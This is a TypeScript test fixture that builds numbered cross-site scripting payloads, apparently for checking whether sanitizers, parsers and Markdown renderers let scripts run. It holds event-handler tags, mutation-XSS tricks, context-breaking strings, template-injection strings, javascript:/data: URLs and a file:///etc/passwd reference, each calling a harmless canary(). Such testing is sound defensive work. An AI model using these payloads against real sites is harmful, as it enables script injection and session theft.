/**
 * Texts that run a script where a page takes them for markup, for a part of an attribute, a script or a style, for an
 * address, or for Markdown. In each, `canary(@)` is what runs; `@` becomes its number.
 */

const ELEMENTS = [
  ...['<img src=x onerror=canary(@)>', '<img src=x:x onerror="canary(@)"', '<image src=x onerror=canary(@)>'],
  ...[
    '<svg onload=canary(@)>',
    '<svg/onload=canary(@)>',
    '<svg><script>canary(@)</script>',
    '<svg><animate onbegin=canary(@) attributeName=x dur=1s>',
  ],
  ...[
    '<svg><set onbegin=canary(@) attributename=x>',
    '<svg><a xlink:href="javascript:canary(@)"><text y=20>x</text></a>',
  ],
  ...[
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=canary(@) /></svg>#x">',
  ],
  ...[
    '<script>canary(@)</script>',
    '<script src="data:text/javascript,canary(@)"></script>',
    '<script type=module>canary(@)</script>',
  ],
  ...['<script>canary(@)//', '<script/x>canary(@)</script>', '<script>canary(@)<!--</script>'],
  ...[
    '<body onload=canary(@)>',
    '<body onpageshow=canary(@)>',
    '<iframe srcdoc="<script>parent.canary(@)</script>"></iframe>',
  ],
  ...[
    '<iframe src="javascript:parent.canary(@)"></iframe>',
    '<iframe onload=canary(@)></iframe>',
    '<object data="javascript:canary(@)"></object>',
  ],
  ...[
    '<object data="x" onerror=canary(@)></object>',
    '<embed src="javascript:canary(@)">',
    '<video><source onerror=canary(@)></video>',
  ],
  ...[
    '<video src=x onerror=canary(@)></video>',
    '<audio src=x onerror=canary(@)></audio>',
    '<details open ontoggle=canary(@)>x</details>',
  ],
  ...[
    '<input autofocus onfocus=canary(@)>',
    '<select autofocus onfocus=canary(@)>',
    '<textarea autofocus onfocus=canary(@)>',
  ],
  ...[
    '<button autofocus onfocus=canary(@)>x</button>',
    '<a href=x autofocus onfocus=canary(@)>x</a>',
    '<div tabindex=0 autofocus onfocus=canary(@)>x</div>',
  ],
  ...[
    '<marquee onstart=canary(@)>x</marquee>',
    '<style onload=canary(@)></style>',
    '<style>*{animation:x}@keyframes x{}</style><p onanimationstart=canary(@)>x',
  ],
  ...[
    '<link rel=stylesheet href=x onerror=canary(@)>',
    '<link rel=stylesheet href="data:text/css,*{}" onload=canary(@)>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=javascript:canary(@)">',
    '<base href="javascript:canary(@)//">',
    '<form action="javascript:canary(@)"><button autofocus>x',
  ],
  ...[
    '<math><maction actiontype=statusline xlink:href="javascript:canary(@)">x',
    '<dialog open onfocus=canary(@) autofocus tabindex=0>x',
    '<x onfocus=canary(@) autofocus tabindex=1>x',
  ],
  ...[
    '<template><img src=x onerror=canary(@)></template>',
    '<slot onslotchange=canary(@)>',
    '<p style="animation:x" onanimationend=canary(@)>x',
  ],
];

/** What a sanitizer or parser may turn into markup. */
const MUTATIONS = [
  ...[
    '<noscript><p title="</noscript><img src=x onerror=canary(@)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary(@)&gt;">',
  ],
  ...[
    '<svg></p><style><a id="</style><img src=x onerror=canary(@)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary(@)>',
  ],
  ...[
    '<!--><img src=x onerror=canary(@)>-->',
    '<!--!><img src=x onerror=canary(@)>',
    '<![CDATA[<img src=x onerror=canary(@)>]]>',
    '<?xml ?><img src=x onerror=canary(@)>',
  ],
  ...[
    '&lt;img src=x onerror=canary(@)&gt;',
    '&#60;img src=x onerror=canary(@)&#62;',
    '&amp;lt;img src=x onerror=canary(@)&amp;gt;',
  ],
  ...[
    '\\u003cimg src=x onerror=canary(@)\\u003e',
    '\\x3cimg src=x onerror=canary(@)\\x3e',
    '%3Cimg%20src=x%20onerror=canary(@)%3E',
    '+ADw-img src=x onerror=canary(@)+AD4-',
  ],
  ...[
    '<img\u0000 src=x onerror=canary(@)>',
    '<img\u000csrc=x\u000conerror=canary(@)>',
    '<img\tsrc=x\nonerror\r=canary(@)>',
    '\uff1cimg src=x onerror=canary(@)\uff1e',
  ],
  ...[
    '<IMG SRC=x OnErRoR=canary(@)>',
    '<img src=x onerror=canary&#40;@&#41;>',
    '<img src=x onerror="&#99;anary(@)">',
    '<<img src=x onerror=canary(@)>>',
  ],
  ...[
    '<img/src=x/onerror=canary(@)>',
    '<img """><script>canary(@)</script>">',
    '<img src=`x` onerror=`canary(@)`>',
    '<a<img src=x onerror=canary(@)>',
  ],
];

/** Ways out of where a page might have put a text. */
const BREAKS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</template>',
  ']]>',
  '*/',
  '</option>',
  '</td>',
  '}',
  '\\"',
  '"}',
  '?>',
];
const INSIDE = [
  '<img src=x onerror=canary(@)>',
  '<script>canary(@)</script>',
  ' onfocus=canary(@) autofocus tabindex=1 x=',
  ';canary(@)//',
  '-canary(@)-',
  '<svg onload=canary(@)>',
];

const SCRIPTS = [
  ...[
    '${canary(@)}',
    '{{canary(@)}}',
    '{{constructor.constructor("canary(@)")()}}',
    '#{canary(@)}',
    '<%= canary(@) %>',
    '[[canary(@)]]',
  ],
  ...[
    '__proto__',
    'constructor',
    '\u2028canary(@)//',
    '\ncanary(@)\n',
    'canary(@)',
    '(()=>canary(@))()',
    'expression(canary(@))',
  ],
  ...[
    'url(javascript:canary(@))',
    '@import "javascript:canary(@)"',
    'x:expression(canary(@))',
    '</p lit$@$>',
    '<?lit$@$?><img src=x onerror=canary(@)>',
    '?lit$@$',
  ],
];

const ADDRESSES = [
  ...[
    'javascript:canary(@)',
    'JaVaScRiPt:canary(@)',
    'java\tscript:canary(@)',
    'java\nscript:canary(@)',
    '\u0001javascript:canary(@)',
    ' javascript:canary(@)',
  ],
  ...[
    'javascript&colon;canary(@)',
    'javascript://https://a.example/%0acanary(@)',
    'https://a.example/"onfocus=canary(@) autofocus x="',
    "https://a.example/'><img src=x onerror=canary(@)>",
  ],
  ...[
    'data:text/html,<script>canary(@)</script>',
    'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoQCk8L3NjcmlwdD4=',
    'vbscript:canary(@)',
    'blob:https://a.example/@',
    'view-source:javascript:canary(@)',
  ],
  ...[
    'command:workbench.action.terminal.sendSequence?canary(@)',
    'vscode://x/canary(@)',
    'file:///etc/passwd?canary(@)',
    'https://javascript:canary(@)@a.example/',
  ],
];

const MARKDOWN = [
  ...ADDRESSES.map((address) => `[x](${address})`),
  ...ADDRESSES.map((address) => `<${address}>`),
  ...ADDRESSES.map((address) => `<a href="${address}">x</a>`),
  ...[
    '![x](x"onerror="canary(@))',
    '![<img src=x onerror=canary(@)>](https://a.example)',
    '[<img src=x onerror=canary(@)>](https://a.example)',
    '[x][y]\n\n[y]: javascript:canary(@)',
  ],
  ...[
    '```html\n<img src=x onerror=canary(@)>\n```',
    '`<img src=x onerror=canary(@)>`',
    '| a |\n|---|\n| <img src=x onerror=canary(@)> |',
    '> <img src=x onerror=canary(@)>',
    '- <script>canary(@)</script>',
  ],
  ...[
    '# <svg onload=canary(@)>',
    '<b>x</b><img src=x onerror=canary(@)>',
    '<p onclick=canary(@)><b onmouseover=canary(@)>x</b></p>',
    '<a href="https://a.example" onfocus=canary(@) autofocus>x</a>',
  ],
];

export const TEXTS: readonly string[] = [
  ...[...ELEMENTS, ...ELEMENTS.map((text) => text.toUpperCase().replaceAll('CANARY', 'canary'))],
  ...[...MUTATIONS, ...BREAKS.flatMap((way) => INSIDE.map((text) => way + text))],
  ...[...SCRIPTS, ...ADDRESSES, ...MARKDOWN],
].map((text, at) => text.replaceAll('@', String(at)));
